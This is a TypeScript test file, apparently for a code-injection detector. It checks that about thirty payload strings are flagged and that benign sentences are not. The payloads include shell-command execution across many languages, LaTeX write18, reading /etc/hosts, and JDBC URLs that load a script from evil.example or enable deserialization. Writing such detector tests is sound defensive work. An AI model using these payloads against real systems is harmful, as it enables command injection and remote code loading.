import { expect, test } from "bun:test";
import { foundBy } from "../testing/inspect.ts";
import { platformPatterns } from "./code-platforms.ts";

const found = (text: string): boolean => foundBy(platformPatterns, text).length > 0;

const attacks = [
  'System.Diagnostics.Process.Start("cmd.exe")',
  'CreateObject("WScript.Shell").Run("calc.exe")',
  'Execute(Request("x"))',
  '@Html.Raw("x")',
  "@using System.IO",
  "\\immediate\\write18{id}",
  "\\input{/etc/hosts}",
  '"id".execute().text',
  "['sh','-c','id'].execute()",
  'Eval.me("1+1")',
  "@Grab('evil:evil:1')",
  '"id".!',
  ":os.cmd('id')",
  'System.cmd("id",[])',
  "os.execute('id')",
  'Deno.run({cmd:["id"]})',
  'Bun.spawn(["id"])',
  'Code.eval_string("x")',
  "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
  "jdbc:mysql://evil.example/x?autoDeserialize=true",
  'system "id";',
  "use IO::Socket;",
  "require 'open3'",
  'Object.send(:system,"ls")',
  "open('|id')",
  "array_filter(['id'],'system')",
  "(phpinfo)()",
  "'.system(\"id\").'",
  "time.sleep(5)",
  "globals()['os']",
  "from os import popen",
  'commands.getoutput("id")',
];

const honest = [
  "The system 'Alpha' is down; please help",
  "I set the @media rule and it works",
  "We use it; they require it",
  "jdbc:postgresql://db.example.com:5432/app",
  "open the door (please)",
  "import os is what I wrote first",
  "Who can execute (and sign) it?",
  "Write to @using it",
];

test("code for other platforms is found", () => {
  expect(attacks.filter((text) => !found(text))).toEqual([]);
});

test("addresses of databases and sentences with the same words are no code", () => {
  expect(honest.filter(found)).toEqual([]);
});
